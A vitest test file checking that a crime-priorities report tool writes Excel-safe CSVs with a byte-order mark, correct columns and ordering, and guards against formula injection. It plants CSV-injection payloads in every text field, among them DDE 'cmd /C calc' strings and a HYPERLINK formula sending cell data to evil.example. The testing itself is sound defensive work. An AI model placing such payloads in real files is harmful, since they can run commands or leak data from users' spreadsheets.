/**
 * The CSVs as Excel meets them: written by writeReports to real files, read back with csv-parse.
 * Byte-order mark, names beside ids, one row per gap theme, cues in their own file, and no cell that
 * a spreadsheet would run as a formula (each OWASP payload planted in every kind of text field).
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, test } from 'vitest';
import { loadTaxonomy } from '../../src/classify/taxonomy.js';
import {
  buildBrief, ERROR_COLUMNS, GAP_COLUMNS, gapsCsv, PRIORITY_COLUMNS, PRIORITY_CUE_COLUMNS, THEME_COLUMNS, writeReports,
  type ReportInput,
} from '../../src/report/index.js';
import type { ClassifiedPriority, Failure } from '../../src/schema/index.js';
import { unguardCell } from '../../src/util/spreadsheet.js';
import { makeInput } from './fixture.js';
import { tempDir } from './helpers.js';

const PAYLOADS = [
  '=1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-1+HYPERLINK("http://evil.example/?d="&A1,"Open")',
  '+44 1632 960000',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=quoted by its author",
];
const [EQ, CALC, LINK, PLUS, AT, TAB, CR, QUOTED] = PAYLOADS as [string, string, string, string, string, string, string, string];
const taxonomyLabel = (id: string) => loadTaxonomy().themes.find((t) => t.id === id)!.label;

/** The shared report fixture, with every payload planted in each field that can hold document text. */
function hostileInput(): ReportInput {
  const base = makeInput();
  const extra: ClassifiedPriority[] = PAYLOADS.map((text, i) => ({
    id: `x${i}`, sourceId: i % 2 ? 'csp-evil' : 'csp-oxford', page: i + 1, section: PAYLOADS[(i + 1) % PAYLOADS.length]!,
    text, quote: `${PAYLOADS[(i + 2) % PAYLOADS.length]!} – as the strategy says`, strength: 'named', rule: 'list-under-heading',
    reasons: [PAYLOADS[(i + 3) % PAYLOADS.length]!, 'under a priorities heading (1.2)'],
    kind: 'crime', theme: 'domestic_abuse', otherThemes: ['night_time_economy'], confidence: 0.5,
    cues: [{ source: 'lexicon', term: PAYLOADS[(i + 4) % PAYLOADS.length]!, kind: 'crime', theme: 'domestic_abuse', weight: -1.25 }],
  }));
  const analysis = structuredClone(base.analysis);
  analysis.themes[0]!.planQuote = CALC;
  analysis.themes[0]!.partners = [...analysis.themes[0]!.partners, EQ];
  // A partner theme missing from the plan that national sources also cite, and a repeated gap.
  const slavery = analysis.gaps.find((g) => g.theme === 'modern_slavery')!;
  analysis.gaps.push({ ...slavery, type: 'national_missing', reason: `${LINK} national` }, { ...analysis.gaps.find((g) => g.theme === 'rural_crime')! });
  const warning: Failure = { sourceId: 'csp-evil', stage: 'parse', code: 'no-priorities', message: AT, hint: TAB, level: 'warning' };
  return {
    ...base,
    analysis,
    priorities: [...base.priorities, ...extra],
    sources: [...base.sources, { ...base.sources[0]!, id: 'csp-evil', partner: LINK, area: PLUS }],
    documents: [...base.documents, { sourceId: 'csp-evil', title: CR, pages: 3, format: 'html' }],
    failures: [warning, ...base.failures],
  };
}

/** Columns that hold numbers: written as numbers, never guarded. */
const NUMERIC: Record<string, string[]> = {
  'priorities.csv': ['year', 'page', 'confidence'],
  'priorities-cues.csv': ['weight'],
  'themes.csv': ['harm', 'prevalence', 'trend', 'score', 'plan_page', 'survey_mentions', 'named_count', 'mention_count'],
  'gaps.csv': ['score'],
  'errors.csv': [],
};
const FILES = Object.keys(NUMERIC);

let input: ReportInput;
let out: string;
const raw: Record<string, Buffer> = {};
const rows: Record<string, Array<Record<string, string>>> = {};

beforeAll(async () => {
  input = hostileInput();
  out = await tempDir();
  await writeReports(input, out);
  for (const f of FILES) {
    raw[f] = await readFile(join(out, '2025', f));
    rows[f] = parse(raw[f], { bom: true, columns: true, relax_quotes: false }) as Array<Record<string, string>>;
  }
});

describe('every CSV, for Excel', () => {
  test.each(FILES)('%s starts with the UTF-8 byte-order mark and a header row', (f) => {
    expect([...raw[f]!.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(raw[f]!.subarray(3).toString('utf8').startsWith(f === 'errors.csv' ? 'source_id,' : f === 'priorities-cues.csv' ? 'priority_id,' : f.startsWith('priorities') ? 'source_id,' : 'theme,')).toBe(true);
  });

  test.each(FILES)('%s: no cell starts a formula; numeric columns stay numbers', (f) => {
    for (const r of rows[f]!) {
      for (const [c, v] of Object.entries(r)) {
        if (NUMERIC[f]!.includes(c)) expect(v === '' || Number.isFinite(Number(v)), `${f} ${c}: ${v}`).toBe(true);
        else expect(v, `${f} ${c}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  test('each payload reads back exactly after unguardCell, wherever it was planted', () => {
    const p = rows['priorities.csv']!;
    const evil = p.filter((r) => r.priority_id!.startsWith('x')).sort((a, b) => a.priority_id!.localeCompare(b.priority_id!));
    expect(evil.map((r) => unguardCell(r.text!))).toEqual(PAYLOADS);
    expect(evil.map((r) => unguardCell(r.section!))).toEqual(PAYLOADS.map((_, i) => PAYLOADS[(i + 1) % PAYLOADS.length]));
    expect(evil.map((r) => unguardCell(r.quote!))).toEqual(PAYLOADS.map((_, i) => `${PAYLOADS[(i + 2) % PAYLOADS.length]} – as the strategy says`));
    expect(evil.map((r) => r.text)).toEqual(PAYLOADS.map((s) => `'${s}`));
    const fromEvil = evil.find((r) => r.source_id === 'csp-evil')!;
    expect([fromEvil.partner, fromEvil.area, fromEvil.document].map((v) => unguardCell(v!))).toEqual([LINK, PLUS, CR]);
    const cues = rows['priorities-cues.csv']!.filter((r) => r.priority_id === 'x0');
    expect(cues.map((r) => unguardCell(r.term!))).toEqual([PAYLOADS[4]]);
    expect(cues[0]!.weight).toBe('-1.25');
    const da = rows['themes.csv']!.find((t) => t.theme === 'domestic_abuse')!;
    expect(unguardCell(da.plan_quote!)).toBe(CALC);
    expect(da.partners!.split('; ')).toContain(EQ);
    const warning = rows['errors.csv']!.find((e) => e.level === 'warning')!;
    expect([warning.message, warning.hint, warning.partner].map((v) => unguardCell(v!))).toEqual([AT, TAB, LINK]);
    expect(unguardCell(rows['gaps.csv']!.find((g) => g.theme === 'modern_slavery')!.reason!)).toContain(`${LINK} national`);
    expect(QUOTED.startsWith("'")).toBe(true);
  });

  test('non-ASCII text is UTF-8 ("–" as E2 80 93)', () => {
    expect(raw['priorities.csv']!.includes(Buffer.from([0xe2, 0x80, 0x93]))).toBe(true);
    expect(rows['priorities.csv']!.some((r) => r.quote!.includes(' – as the strategy says'))).toBe(true);
  });
});

describe('priorities.csv and priorities-cues.csv', () => {
  test('columns, names beside ids, reasons, no cues column', () => {
    expect(Object.keys(rows['priorities.csv']![0]!)).toEqual([...PRIORITY_COLUMNS]);
    expect(PRIORITY_COLUMNS).not.toContain('cues');
    const p = rows['priorities.csv']!;
    expect(p).toHaveLength(input.priorities.length);
    expect(new Set(p.map((r) => r.priority_id)).size).toBe(p.length);
    const x0 = p.find((r) => r.priority_id === 'x0')!;
    expect(x0).toMatchObject({
      theme: 'domestic_abuse', theme_name: 'Domestic abuse', other_themes: 'night_time_economy',
      other_theme_names: taxonomyLabel('night_time_economy'), partner_type: 'CSP', partner_type_name: 'Community Safety Partnership',
    });
    expect(x0.reasons!.split('; ').map(unguardCell)).toEqual([PAYLOADS[3], 'under a priorities heading (1.2)']);
    // A theme the analysis does not summarise still gets a name (taxonomy, else its words).
    expect(p.find((r) => r.theme === 'terrorism')!.theme_name).toBe('Terrorism');
    expect(p.find((r) => r.theme === '')!.theme_name).toBe('');
    expect(p.find((r) => r.source_id === 'pcp-2021')!.document).toBe('Police and Crime Plan 2021-2025');
    expect(p.find((r) => r.text!.includes('hidden'))!.text).toBe('Children at risk & "hidden" harm <online>');
  });

  test("rows follow the note's evidence order and carry its references", () => {
    const refs = new Map(buildBrief(input).evidence.map((e) => [e.priorityId, String(e.ref)]));
    const p = rows['priorities.csv']!;
    expect(p.map((r) => r.ref)).toEqual(p.map((r) => refs.get(r.priority_id!)));
    expect(p.map((r) => Number(r.ref))).toEqual(p.map((_, i) => i + 1));
  });

  test('one row per cue, keyed by priority id, with the cue theme named', () => {
    const cues = rows['priorities-cues.csv']!;
    expect(Object.keys(cues[0]!)).toEqual([...PRIORITY_CUE_COLUMNS]);
    expect(cues).toHaveLength(input.priorities.reduce((n, p) => n + p.cues.length, 0));
    const ids = new Set(rows['priorities.csv']!.map((r) => r.priority_id));
    for (const c of cues) expect(ids.has(c.priority_id)).toBe(true);
    const lex = cues.find((c) => c.cue_source === 'lexicon' && c.cue_theme === 'domestic_abuse')!;
    expect(lex.cue_theme_name).toBe('Domestic abuse');
    expect(cues.find((c) => c.cue_source === 'model')).toMatchObject({ term: 'nb', cue_theme: '', cue_theme_name: '', weight: '0.41' });
  });
});

describe('themes.csv, gaps.csv, errors.csv', () => {
  test('themes.csv: theme_name next to theme, taxonomy group, partner-type names', () => {
    const t = rows['themes.csv']!;
    expect(Object.keys(t[0]!)).toEqual([...THEME_COLUMNS]);
    expect(THEME_COLUMNS.indexOf('theme_name')).toBe(THEME_COLUMNS.indexOf('theme') + 1);
    const da = t.find((r) => r.theme === 'domestic_abuse')!;
    expect(da).toMatchObject({ theme_name: 'Domestic abuse', group: 'business', in_plan: 'yes' });
    expect(da.partner_type_names!.split('; ')).toHaveLength(da.partner_types!.split('; ').length);
    expect(da.partner_type_names).toContain('Health and Wellbeing Board');
    expect(t.find((r) => r.theme === 'public_awareness')!.group).toBe('method');
    expect(t.find((r) => r.theme === 'reoffending')!.trend).toBe('-0.5');
  });

  test('gaps.csv: one row per theme, highest score first, every gap type and reason kept', () => {
    const g = rows['gaps.csv']!;
    expect(Object.keys(g[0]!)).toEqual([...GAP_COLUMNS]);
    expect(input.analysis.gaps.length).toBe(6);
    expect(g.map((r) => r.theme)).toEqual([...new Set(input.analysis.gaps.map((x) => x.theme))].sort((a, b) =>
      Math.max(...input.analysis.gaps.filter((x) => x.theme === b).map((x) => x.score)) - Math.max(...input.analysis.gaps.filter((x) => x.theme === a).map((x) => x.score)) || a.localeCompare(b)));
    expect(new Set(g.map((r) => r.theme)).size).toBe(g.length);
    const scores = g.map((r) => Number(r.score));
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
    const slavery = g.find((r) => r.theme === 'modern_slavery')!;
    expect(slavery).toMatchObject({ theme_name: 'Modern slavery & trafficking', type: 'missing_from_plan; national_missing' });
    expect(slavery.reason).toMatch(/^Cited by Reading CSP .* not in the plan\. .*national$/);
    expect(g.find((r) => r.theme === 'rural_crime')!.type).toBe('missing_from_plan');
  });

  test('gaps.csv names a merged theme once at the start of its reason', () => {
    const analysis = structuredClone(input.analysis);
    analysis.gaps = [
      { theme: 'fraud', kind: 'crime', tier: 'major', score: 7, reason: 'Fraud and scams: cited by 3 of 12 partners; it is not in the current plan.', type: 'missing_from_plan' },
      { theme: 'fraud', kind: 'crime', tier: 'major', score: 7, reason: 'Fraud and scams: cited by national sources but not covered by the current plan.', type: 'national_missing' },
    ];
    const g = parse(gapsCsv(analysis), { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(g).toEqual([{
      theme: 'fraud', theme_name: 'Fraud and scams', kind: 'crime', tier: 'major', score: '7', type: 'missing_from_plan; national_missing',
      reason: 'Fraud and scams: cited by 3 of 12 partners; it is not in the current plan. Also cited by national sources but not covered by the current plan.',
    }]);
  });

  test('errors.csv: level and partner columns, failures before warnings', () => {
    const e = rows['errors.csv']!;
    expect(Object.keys(e[0]!)).toEqual([...ERROR_COLUMNS]);
    expect(e.map((r) => [r.source_id, r.level])).toEqual([['csp-wycombe', 'error'], ['csp-evil', 'warning'], ['sab-oxon', 'warning']]);
    expect(e[0]).toMatchObject({ partner: 'Wycombe CSP', stage: 'fetch', code: 'http-status' });
  });
});
